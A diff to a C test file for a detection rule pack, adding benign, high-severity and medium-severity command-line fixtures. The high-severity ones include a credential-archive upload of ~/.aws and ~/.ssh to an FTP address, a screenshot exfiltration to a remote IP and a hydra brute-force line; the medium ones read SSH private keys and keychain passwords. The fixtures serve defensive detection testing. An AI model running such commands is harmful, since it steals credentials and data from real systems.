@@ -934,7 +934,12 @@ static void test_pack_benign(void **state) {
         "curl -s https://ipinfo.example.com/docs", "openssl req -new -key server.key -out server.csr",
         "python3 -m venv .venv && . .venv/bin/activate", "sudo launchctl bootout gui/501/com.example.agent",
         "sudo launchctl unload /Library/LaunchDaemons/com.docker.vmnetd.plist", "shred -u /tmp/report.txt",
-        "rm -f /tmp/.X11-unix/X0",
+        "rm -f /tmp/.X11-unix/X0", "ssh -i /home/deploy/.ssh/id_ed25519 deploy@web1",
+        "ssh-keygen -y -f /root/.ssh/id_rsa", "chmod 600 /home/deploy/.ssh/id_rsa",
+        "smbclient //fileserver/share -U alice -c 'ls'", "ldapsearch -x -b 'dc=example,dc=com' '(uid=alice)'",
+        "rclone ls gdrive:photos", "rclone copy ./dist s3:releases/v1.2",
+        "tar czf site.tgz public && curl -T site.tgz https://uploads.example.com/site.tgz",
+        "screencapture -i shot.png && open shot.png",
     };
     int err;
     sigma_rules *rs = sigma_rules_new(&err);
@@ -1065,6 +1070,9 @@ static const struct { const char *cmd; int level; } pack_attacks[] = {
     {"chmod u+s /var/tmp/.helper", SIGMA_HIGH},
     {"chmod 4777 /usr/local/bin/tool", SIGMA_HIGH},
     {"cp /bin/sh /usr/sbin/cron", SIGMA_HIGH},
+    {"tar -cjf /var/tmp/h.tbz ~/.aws ~/.ssh && curl -T /var/tmp/h.tbz ftp://198.51.100.31/in/", SIGMA_HIGH},
+    {"import -window root /tmp/.w.png; curl -s -F img=@/tmp/.w.png http://198.51.100.32/up", SIGMA_HIGH},
+    {"hydra -L users.txt -P pw.txt 192.0.2.7 ftp", SIGMA_HIGH},
 };
 
 /* Dual-use and discovery lines: each must be hit at exactly medium (a hint
@@ -1097,6 +1105,10 @@ static const char *const pack_medium[] = {
     "curl -F 'f=@/var/tmp/out.tgz' https://paste.example.org/upload",
     "python3 -c 'import ctypes; ctypes.CDLL(\"/opt/x/libx.so\")'", "sudo sysadminctl -addUser backup2 -password x",
     "cp /bin/bash /opt/tools/bash-copy", "find / -xdev -perm -4000 -ls 2>/dev/null", "ngrok tcp 22",
+    "awk 'NR<50' /home/deploy/.ssh/id_ecdsa", "smbclient --list=//192.0.2.30 --no-pass",
+    "showmount -e nfs1.example.lan",
+    "ldapsearch -LLL -x -h dc.example.lan -b 'dc=example,dc=lan' '(objectCategory=computer)' dNSHostName",
+    "rclone sync ~/Desktop dropbox:desk", "security find-generic-password -w -s wifi",
 };
 
 /* The best level of the pack's hits on a bare command line (-1: none);
